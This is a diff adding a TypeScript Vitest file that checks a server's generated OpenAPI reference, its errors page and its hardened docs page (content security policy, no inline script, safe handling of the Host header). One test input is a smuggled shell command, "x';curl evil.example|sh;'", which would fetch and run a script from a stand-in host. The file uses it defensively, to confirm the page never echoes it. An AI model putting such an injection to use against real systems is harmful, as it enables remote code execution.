@@ -1,0 +1,156 @@
+import { readFileSync } from 'node:fs';
+import { eventSchemas, problems, schemaExample } from '@ringfence/contract';
+import { parseCidr } from '@ringfence/delivery';
+import { describe, expect, it } from 'vitest';
+import { errorsPage } from '../../../src/platform/api-reference/errors-page.ts';
+import { deviceKeysPlugin } from '../../../src/ingest/device-key-routes.ts';
+import { openApiText } from '../../../src/ingest/openapi.ts';
+import { Senders } from '../../../src/platform/http/client-address.ts';
+import { eventRoutes } from '../../../src/ingest/routes.ts';
+import { developmentKey, doorKit } from '../support/door-kit.ts';
+
+interface Operation {
+  readonly operationId: string;
+  readonly responses: Readonly<Record<string, object>>;
+}
+
+interface Document {
+  readonly openapi: string;
+  readonly paths: Readonly<Record<string, { readonly post?: Operation; readonly get?: Operation }>>;
+  readonly webhooks: object;
+}
+
+const text = openApiText();
+const document = JSON.parse(text) as Document;
+const keysPath = '/device/v1/keys/{workspace}';
+/** Those that take events. */
+const operations = Object.values(document.paths).flatMap(({ post }) => post ?? []);
+
+/** What a reference points to. */
+function target(reference: string): unknown {
+  return reference
+    .slice(2)
+    .split('/')
+    .reduce<unknown>((found, part) => (found as Record<string, unknown> | undefined)?.[part], document);
+}
+
+/** A page of docs/reference; `node apps/server/src/api/write-reference.ts` writes it. */
+function committed(name: string): string {
+  return readFileSync(new URL(`../../../../../docs/reference/${name}`, import.meta.url), 'utf8');
+}
+
+it('the page of errors is the committed one, and has every code', () => {
+  expect(committed('errors.md')).toBe(errorsPage());
+  expect(errorsPage().match(/^\| `/gm)).toHaveLength(Object.keys(problems).length);
+});
+
+describe('the OpenAPI document', () => {
+  it('is the committed one', () => {
+    expect(committed('openapi.json')).toBe(text);
+  });
+
+  it('is OpenAPI 3.1 with the twelve paths of the wire, the keys of devices and the webhook', () => {
+    expect(document.openapi).toBe('3.1.0');
+    expect(Object.keys(document.paths)).toEqual([...eventRoutes.map(({ path }) => path), keysPath]);
+    expect(operations).toHaveLength(12);
+    expect(Object.keys(document.webhooks)).toEqual(['action']);
+  });
+
+  it('refers only to what is there, and names every operation once', () => {
+    const references = [...text.matchAll(/"\$ref": "(#\/[^"]+)"/g)].map((match) => match[1]!);
+    expect(references.filter((reference) => target(reference) === undefined)).toEqual([]);
+    const ids = operations.map(({ operationId }) => operationId);
+    expect(new Set(ids).size).toBe(12);
+  });
+
+  it('names every status that the door answers', () => {
+    const statuses = new Set(operations.flatMap((post) => Object.keys(post.responses)));
+    const expected = '200 400 401 404 405 408 413 415 417 422 429 431 500 501 503';
+    expect([...statuses].toSorted().join(' ')).toEqual(expected);
+  });
+
+  it('has the problem of whoever asks for the keys of a workspace that is not there', async () => {
+    const kit = await doorKit({ deps: { plugins: [deviceKeysPlugin({ byId: () => undefined })] } });
+    const { code } = (await kit.app.inject({ url: keysPath.replace('{workspace}', 'nobody') })).json<{
+      code: string;
+    }>();
+    expect(code).toBe('thing.unknown');
+    const problem = target('#/components/schemas/Problem/properties/code') as { readonly enum: readonly string[] };
+    expect(problem.enum).toContain(code);
+  });
+
+  it('has examples that the door takes', async () => {
+    const kit = await doorKit();
+    for (const { path, kind, environment } of eventRoutes) {
+      const key = environment === 'development' ? { key: developmentKey } : {};
+      const response = await kit.post(kind, schemaExample(eventSchemas[kind]), { path, ...key });
+      expect([path, response.statusCode]).toEqual([path, 200]);
+    }
+  });
+});
+
+describe('the reference', () => {
+  it.each([
+    ['/openapi.json', 'application/json; charset=utf-8'],
+    ['/docs', 'text/html; charset=utf-8'],
+    ['/docs/docs.css', 'text/css; charset=utf-8'],
+  ])('%s is served, under a strict policy and without a key', async (url, type) => {
+    const kit = await doorKit();
+    const response = await kit.app.inject({ url });
+    expect(response.statusCode).toBe(200);
+    expect(response.headers['content-type']).toBe(type);
+    expect(response.headers['content-security-policy']).toMatch(/^default-src 'none'; style-src 'self'/);
+  });
+
+  it('loads nothing from outside, and runs and styles nothing inline', async () => {
+    const kit = await doorKit();
+    const page = (await kit.app.inject({ url: '/docs' })).body;
+    const style = (await kit.app.inject({ url: '/docs/docs.css' })).body;
+    const loaded = [...page.matchAll(/(?:src|href)="([^"]*)"/g)].map((match) => match[1]!);
+    expect(loaded.filter((address) => !/^(?:\/docs\/docs\.css|\/openapi\.json|#[a-z]+)$/.test(address))).toEqual([]);
+    expect(page).not.toMatch(/<script|<style|\sstyle=|\son\w+=|<img|<iframe/i);
+    expect(style).not.toMatch(/url\(|@import/);
+  });
+
+  it('shows every member of every event', async () => {
+    const kit = await doorKit();
+    const page = (await kit.app.inject({ url: '/docs' })).body;
+    for (const name of [
+      'channelId',
+      'publicIp',
+      'transaction.details',
+      'account.clientRefIdStr',
+      'creditCard.last4Digits',
+      'clientRSA',
+      'actions[].webhookId',
+      'session.mismatch',
+    ]) {
+      expect(page).toContain(`<code>${name}</code>`);
+    }
+  });
+
+  it.each([
+    ['fraud.bank.example:8443', 'http://fraud.bank.example:8443'],
+    ['[::1]:9080', 'http://[::1]:9080'],
+    ['localhost', 'http://localhost'],
+    ["x';curl evil.example|sh;'", 'http://localhost'],
+    ['<b>bank</b>', 'http://localhost'],
+    ['bank.example:80801234', 'http://localhost'],
+    ['user@bank.example', 'http://localhost'],
+  ])('shows how to try it at the address where it was asked: Host: %s', async (host, address) => {
+    const kit = await doorKit();
+    const page = (await kit.app.inject({ url: '/docs', headers: { host } })).body;
+    const shown = [...page.matchAll(/'([^'\n]*)\/api-dev\/v5\/analytics\/app\/\w+'/g)].map((match) => match[1]);
+    expect(shown).toEqual([address, address, address]);
+    expect(page).not.toContain('evil.example');
+  });
+
+  it('believes a proxy of the operator, and nobody else, that it was asked by https', async () => {
+    const headers = { host: 'bank.example', 'x-forwarded-proto': 'https' };
+    const behind = await doorKit({ deps: { senders: new Senders([parseCidr('10.0.0.0/8')!]) } });
+    const pageFor = async (remoteAddress: string): Promise<string> =>
+      (await behind.app.inject({ url: '/docs', headers, remoteAddress })).body;
+    expect(await pageFor('10.1.2.3')).toContain("'https://bank.example/api-dev/");
+    expect(await pageFor('192.0.2.1')).toContain("'http://bank.example/api-dev/");
+  });
+});
